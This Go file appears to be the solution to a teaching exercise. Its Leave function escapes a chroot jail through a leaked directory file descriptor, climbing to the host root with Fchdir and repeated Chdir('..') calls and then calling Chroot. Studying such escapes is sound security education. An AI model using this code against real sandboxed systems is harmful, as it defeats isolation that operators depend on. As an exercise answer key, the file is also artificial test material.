//go:build linux && solution

// Package opendoor is an exercise of chapter 1.
package opendoor

import (
	"errors"
	"os"

	"golang.org/x/sys/unix"
)

// Leave makes the root of the host this process's root, by a directory outside
// of the present root that is open as one of the descriptors from 3 to 255. It
// is an error when there is none.
func Leave() error {
	inside, err := os.Stat("/")
	if err != nil {
		return err
	}
	for fd := 3; fd < 256; fd++ {
		if unix.Fchdir(fd) != nil {
			continue // not open, or no directory
		}
		for range 256 {
			if err := unix.Chdir(".."); err != nil {
				return err
			}
		}
		top, err := os.Stat(".")
		if err != nil {
			return err
		}
		if !os.SameFile(inside, top) {
			return unix.Chroot(".")
		}
	}
	return errors.New("no descriptor leads out")
}
